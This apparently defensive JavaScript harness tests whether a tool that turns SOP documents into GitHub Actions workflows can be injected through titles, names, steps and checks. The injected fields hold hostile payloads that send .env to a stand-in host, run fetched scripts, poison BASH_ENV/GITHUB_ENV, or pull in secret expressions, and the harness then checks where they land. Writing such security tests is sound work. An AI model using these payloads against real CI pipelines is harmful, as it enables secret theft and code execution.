import { createRequire } from 'node:module';
import { join } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { runCli, crashReason } from './cli.mjs';
import { readTree, tempWorkspace, writeFiles } from './workspace.mjs';

const require = createRequire(import.meta.url);
const { syntax: sh } = require('mvdan-sh');

/**
 * Measurement 3: SOPs whose file name, title, people, steps or quality checks carry shell or GitHub
 * expression syntax, exported with `sop automation`. An injection is effective when its marker lands in
 * any `run:` script, or any `${{ … }}` expression in the workflow came from the SOP. "Unquoted" narrows
 * that to a marker the shell reads as syntax or bare words (or a script the shell parser cannot read).
 */

const EXFIL = (m) => `'; curl -sd @.env https://x.invalid/${m}; echo '`;

/** [id, where, build(marker) → { fileName?, title?, owner?, approver?, steps?, checks? }] */
const ATTACKS = [
  ['file-name-quote', 'SOP file name', (m) => ({ fileName: `close'; curl -sd @.env x.invalid; echo '${m}.sop.md` })],
  ['file-name-subst', 'SOP file name', (m) => ({ fileName: `close-$(curl x.invalid)-${m}.sop.md` })],
  ['title-quote', 'title', (m) => ({ title: `Month-end close${EXFIL(m)}` })],
  ['title-subst', 'title', (m) => ({ title: `Month-end close $(curl -s x.invalid/${m} | sh)` })],
  ['title-backtick', 'title', (m) => ({ title: 'Month-end close `curl -s x.invalid/' + m + '`' })],
  ['title-expression', 'title', (m) => ({ title: `Month-end close \${{ secrets.GITHUB_TOKEN }} ${m}` })],
  ['title-newline-yaml', 'title', (m) => ({ title: `Month-end close"\\n    run: curl x.invalid/${m}` })],
  ['approver-quote', 'approver', (m) => ({ approver: `Priya Nair${EXFIL(m)} (Finance manager)` })],
  ['owner-expression', 'owner', (m) => ({ owner: `Sam Lee \${{ github.event.issue.title }} ${m} (Operations assistant)` })],
  ['step-quote', 'step text', (m) => ({ steps: [`Run \`bash scripts/fetch.sh\`${EXFIL(m)} — mechanical.`] })],
  ['step-subst', 'step text', (m) => ({ steps: [`Run \`bash scripts/fetch.sh $(curl -s x.invalid/${m})\` — mechanical.`] })],
  [
    'gate-heredoc-break',
    'approval step',
    (m) => ({
      gate: `Send the report to Priya Nair (Finance manager) for sign-off and wait for her approval.\n   SOP_SUMMARY\n   curl -sd @.env https://x.invalid/${m}\n   cat <<'SOP_SUMMARY'`,
    }),
  ],
  [
    'gate-expression',
    'approval step',
    (m) => ({ gate: `Send the report to Priya Nair (Finance manager) for sign-off \${{ secrets.DEPLOY_KEY }} ${m} and wait for her approval.` }),
  ],
  ['check-bash-env', 'quality check', (m) => ({ checks: [`\`git log -1 --format=tformat:BASH_ENV=scripts/${m}.sh --output=$GITHUB_ENV\` — mechanical.`] })],
  ['check-rg-pre', 'quality check', (m) => ({ checks: [`\`rg --pre bash ${m} out/\` — mechanical.`] })],
  ['check-semicolon', 'quality check', (m) => ({ checks: [`\`test -s out/report.csv; curl -sd @.env https://x.invalid/${m}\` — mechanical.`] })],
  ['check-and', 'quality check', (m) => ({ checks: [`\`grep -c po_ out/report.csv && curl -s x.invalid/${m}\` prints 4 — mechanical.`] })],
  ['check-subst-in-path', 'quality check', (m) => ({ checks: [`\`test -s "out/$(curl -s x.invalid/${m}).csv"\` — mechanical.`] })],
  ['check-backtick-in-path', 'quality check', (m) => ({ checks: ['`test -s out/\\`curl x.invalid/' + m + '\\`.csv` — mechanical.'] })],
  ['check-github-env', 'quality check', (m) => ({ checks: [`\`sort -o $GITHUB_ENV out/${m}.csv\` — mechanical.`] })],
  ['check-find-exec', 'quality check', (m) => ({ checks: [`\`find out -name '*.csv' -exec sh -c 'curl x.invalid/${m}' ;\` — mechanical.`] })],
  ['check-awk-system', 'quality check', (m) => ({ checks: [`\`awk 'BEGIN { system("curl x.invalid/${m}") }' out/report.csv\` — mechanical.`] })],
  ['check-sed-e', 'quality check', (m) => ({ checks: [`\`sed -n '1e curl x.invalid/${m}' out/report.csv\` — mechanical.`] })],
  ['check-git-pager', 'quality check', (m) => ({ checks: [`\`git -c core.pager='sh -c "curl x.invalid/${m}"' log -1\` — mechanical.`] })],
  ['check-xargs', 'quality check', (m) => ({ checks: [`\`ls out | xargs -I{} sh -c 'curl x.invalid/${m}'\` — mechanical.`] })],
  [
    'check-tar-checkpoint',
    'quality check',
    (m) => ({ checks: [`\`tar -cf /dev/null out --checkpoint=1 --checkpoint-action=exec='curl x.invalid/${m}'\` — mechanical.`] }),
  ],
  ['check-process-subst', 'quality check', (m) => ({ checks: [`\`diff out/report.csv <(curl -s x.invalid/${m})\` — mechanical.`] })],
  ['check-redirect-write', 'quality check', (m) => ({ checks: [`\`grep -c po_ out/report.csv > scripts/${m}.sh\` — mechanical.`] })],
  ['check-env-assign', 'quality check', (m) => ({ checks: [`\`BASH_ENV=scripts/${m}.sh test -s out/report.csv\` — mechanical.`] })],
  ['check-expression', 'quality check', (m) => ({ checks: [`\`test -s out/\${{ secrets.AWS_SECRET_ACCESS_KEY }}${m}.csv\` — mechanical.`] })],
  ['check-git-diff-ext', 'quality check', (m) => ({ checks: [`\`git diff --ext-diff -c diff.external='curl x.invalid/${m}' HEAD~1\` — mechanical.`] })],
  ['check-jq-env', 'quality check', (m) => ({ checks: [`\`jq -n 'env | tostring' --arg x ${m}\` — mechanical.`] })],
];

function sopText(a) {
  const title = a.title ?? 'Month-end close';
  const owner = a.owner ?? 'Sam Lee (Operations assistant)';
  const approver = a.approver ?? 'Priya Nair (Finance manager)';
  const steps = [
    'Run `bash scripts/fetch.sh 2026-10` to copy the exports into `exports/` — mechanical.',
    ...(a.steps ?? []),
    'Run `python3 scripts/reconcile.py --month 2026-10` — mechanical.',
  ];
  const gate = a.gate ?? `Send \`out/report.csv\` to ${approver} for sign-off and wait for her approval before the journal is posted.`;
  const checks = ['`test -s out/report.csv` — mechanical.', ...(a.checks ?? [])];
  const q = (s) => JSON.stringify(s);
  return `---\ntitle: ${q(title)}\ntype: sop\nstatus: approved\nowner: ${q(owner)}\napprover: ${q(approver)}\n---\n\n# ${title}\n\n## Why this matters\n\nThe books close on the third business day.\n\n## When to run it\n\nOn the first business day of each month at 08:00 CET.\n\n## Who owns it\n\n- **Owner:** ${owner} runs the steps.\n- **Approver:** ${approver} signs off the reconciliation.\n\n## Inputs needed\n\n- The bank export and the scripts in \`scripts/\`.\n\n## Steps\n\n${[...steps, gate].map((s, i) => `${i + 1}. ${s}`).join('\n')}\n\n## Decision points\n\n- A tolerance above 0.50 EUR is a judgment call for the Finance manager.\n\n## Quality checks\n\n${checks.map((c) => `- ${c}`).join('\n')}\n\n## Common failures\n\n- **The bank portal is down:** wait.\n\n## Escalation\n\n- **Contact:** Priya Nair (Finance manager), priya@acme.example.\n- **Stop if** a script stops with an error.\n\n## Expected output\n\n\`out/report.csv\`, signed off.\n`;
}

/** Every `run:` script and every `${{ }}` expression (and `if:` condition) of a workflow. */
function workflowParts(text) {
  const runs = [];
  const expressions = [];
  let doc;
  try {
    doc = parseYaml(text);
  } catch (e) {
    return { runs, expressions, error: `YAML does not parse: ${e.message.split('\n')[0]}` };
  }
  const visit = (node, key) => {
    if (typeof node === 'string') {
      if (key === 'run') runs.push(node);
      if (key === 'if') expressions.push(node);
      for (const m of node.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) expressions.push(m[1].trim());
    } else if (Array.isArray(node)) node.forEach((n) => visit(n, key));
    else if (node && typeof node === 'object') for (const [k, v] of Object.entries(node)) visit(v, k);
  };
  visit(doc, '');
  return { runs, expressions };
}

/**
 * Ranges of the script the shell reads as data (single or double quotes, quoted-heredoc bodies) and
 * ranges where it expands again inside them (`$( )`, `<( )`, `$(( ))`, `${ }`).
 */
function shellRanges(script) {
  const file = sh.NewParser().Parse(script, 'run');
  const ranges = [];
  sh.Walk(file, (n) => {
    if (!n) return true;
    const type = sh.NodeType(n);
    const range = (node, quoted) => ranges.push({ start: node.Pos().Offset(), end: node.End().Offset(), quoted });
    if (type === 'SglQuoted' || type === 'DblQuoted') range(n, true);
    else if (type === 'CmdSubst' || type === 'ProcSubst' || type === 'ArithmExp' || type === 'ParamExp') range(n, false);
    else if (type === 'Redirect' && n.Hdoc && n.Word?.Parts?.some((p) => ['SglQuoted', 'DblQuoted'].includes(sh.NodeType(p)))) range(n.Hdoc, true);
    return true;
  });
  return ranges;
}

/** Whether the marker stands where the shell reads it as syntax or bare words: the innermost range around it decides. */
function markerUnquoted(script, marker) {
  if (!script.includes(marker)) return false;
  let ranges;
  try {
    ranges = shellRanges(script);
  } catch {
    return true; // the SOP's text broke the script: whatever runs is not what was written
  }
  const bytes = Buffer.from(script);
  const needle = Buffer.from(marker);
  for (let at = bytes.indexOf(needle); at >= 0; at = bytes.indexOf(needle, at + 1)) {
    const around = ranges.filter((r) => at >= r.start && at + needle.length <= r.end).sort((a, b) => a.end - a.start - (b.end - b.start));
    if (around.length === 0 || !around[0].quoted) return true;
  }
  return false;
}

async function exportOne(cli, id, build, marker) {
  const ws = tempWorkspace(`wf-${id}`);
  const a = build(marker);
  const fileName = a.fileName ?? 'month-end-close.sop.md';
  writeFiles(ws, [
    [`sops/${fileName}`, sopText(a)],
    ['scripts/fetch.sh', '#!/bin/sh\ncp ~/Downloads/statement.csv exports/bank.csv\n'],
    ['scripts/reconcile.py', 'print("reconciled")\n'],
    ['out/report.csv', 'id,amount\npo_1,10\n'],
  ]);
  const run = await runCli(cli, ['automation', '--force', '--workspace', ws, join(ws, 'sops', fileName)], { cwd: ws });
  const workflows = readTree(join(ws, '.github/workflows'));
  return { run, workflows };
}

export async function measureWorkflowInjection(cli) {
  const baseline = await exportOne(cli, 'baseline', () => ({}), 'NOPE');
  const baselineExpressions = new Set(baseline.workflows.flatMap((w) => workflowParts(w.text).expressions));
  const results = await Promise.all(
    ATTACKS.map(async ([id, where, build], i) => {
      const marker = `INJ${String(i).padStart(2, '0')}ZQ`;
      const { run, workflows } = await exportOne(cli, id, build, marker);
      const found = {
        id,
        where,
        exported: workflows.length > 0,
        inRun: false,
        unquoted: false,
        fromExpression: false,
        yamlError: undefined,
        crash: crashReason(run),
      };
      for (const w of workflows) {
        const parts = workflowParts(w.text);
        if (parts.error) found.yamlError = parts.error;
        for (const script of parts.runs) {
          if (script.includes(marker)) found.inRun = true;
          if (markerUnquoted(script, marker)) found.unquoted = true;
        }
        if (parts.expressions.some((e) => e.includes(marker) || !baselineExpressions.has(e))) found.fromExpression = true;
        if (!parts.error && !w.text.includes(marker)) found.markerDropped = true;
      }
      found.effective = found.inRun || found.fromExpression || !!found.yamlError;
      if (!found.exported) found.refused = run.stderr.trim().split('\n')[0]?.slice(0, 200);
      return found;
    }),
  );
  return {
    tried: results.length,
    exported: results.filter((r) => r.exported).length,
    effective: results.filter((r) => r.effective).length,
    unquoted: results.filter((r) => r.unquoted).length,
    baselineExported: baseline.workflows.length > 0,
    effectiveList: results
      .filter((r) => r.effective)
      .map(
        (r) =>
          `${r.id} (${r.where})${r.unquoted ? ' [unquoted in run:]' : r.inRun ? ' [quoted in run:]' : ''}${r.fromExpression ? ' [expression]' : ''}${r.yamlError ? ` [${r.yamlError}]` : ''}`,
      ),
    results,
  };
}
